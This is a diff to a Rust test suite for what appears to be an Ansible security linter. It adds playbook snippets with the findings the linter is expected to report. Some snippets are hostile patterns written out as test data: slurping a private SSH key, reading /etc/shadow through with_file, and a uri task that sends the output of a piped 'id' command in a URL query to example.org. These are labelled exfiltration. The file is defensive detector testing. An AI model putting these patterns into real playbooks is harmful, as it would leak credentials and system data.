@@ -50,6 +50,9 @@ fn modules_that_read_secrets() {
             HIT,
         ),
         ("debug:\n  msg: \"{{ lookup('file', '~/.ssh/id_rsa.pub') }}\"", &[]),
+        ("slurp:\n  src: '{{ ansible_env.HOME }}/.ssh/id_rsa'", HIT),
+        ("slurp:\n  src: '{{ role_path }}/.ssh/id_rsa'", &[]),
+        ("slurp:\n  src: '{{ x }}/tls.key'", &[]),
         ("debug:\n  msg: /etc/shadow", &[]),
         ("file:\n  path: /etc/shadow\n  mode: '0000'", &[]),
         ("stat:\n  path: /etc/shadow", &[]),
@@ -79,6 +82,10 @@ fn modules_that_send() {
         (
             "uri:\n  url: https://example.org\n  method: POST\n  body: \"{{ lookup('file', 'dashboard.json') }}\"",
             &[],
+        ),
+        (
+            "uri:\n  url: \"https://example.org/?{{ lookup('pipe', 'id') }}\"",
+            &["2 warning exfiltration", "2 note templated_controller_command"],
         ),
         ("uri:\n  url: https://example.org", &[]),
     ]);
@@ -144,6 +151,14 @@ fn versions_that_move() {
         ("pip:\n  state: latest\n  name: x", NOTE),
         ("apt:\n  state: latest\n  name: x", NOTE),
         ("apt:\n  state: present\n  name: x", &[]),
+        ("apt:\n  deb: https://example.org/x.deb", &["2 warning unpinned"]),
+        (
+            "dnf:\n  name: [y, 'https://example.org/x.rpm']",
+            &["2 warning unpinned"],
+        ),
+        ("pip:\n  name: git+https://example.org/x", &["2 warning unpinned"]),
+        ("pip:\n  name: git+https://example.org/x@main", &["2 warning unpinned"]),
+        ("pip:\n  name: git+https://git@example.org/x@v1.2", &[]),
         ("docker_container:\n  image: nginx:latest\n  name: x", NOTE),
         ("docker_container:\n  image: registry:5000/nginx\n  name: x", NOTE),
         ("docker_container:\n  image: registry:5000/nginx:1.25\n  name: x", &[]),
@@ -196,8 +211,23 @@ fn commands_on_the_controller() {
         ("shell: echo {{ x | quote }}\ndelegate_to: localhost", None),
         ("command: echo {{ x }}\ndelegate_to: localhost", None),
         ("shell: echo {{ x }}", None),
+        ("shell: echo {{ x }}\nconnection: local", Some(hit("note", 1))),
+        ("debug:\n  msg: x\nwith_pipe: date", Some(hit("note", 3))),
+        (
+            "debug:\n  msg: x\nwith_lines: [\"echo {{ x }}\"]",
+            Some(hit("warning", 3)),
+        ),
+        (
+            "debug:\n  msg: x\nwith_file: [/etc/shadow]",
+            Some("3 warning reads_secrets".to_owned()),
+        ),
+        ("debug:\n  msg: x\nwith_items: [date]", None),
     ] {
         assert_eq!(in_task(task), expected.into_iter().collect::<Vec<_>>(), "{task}");
+    }
+    for play in ["- hosts: localhost", "- hosts: all\n  connection: local"] {
+        let text = format!("{play}\n  tasks:\n    - shell: echo {{{{ x }}}}\n");
+        assert_eq!(found(&[("site.yml", &text)]).len(), 1, "{play}");
     }
     let files = [
         (
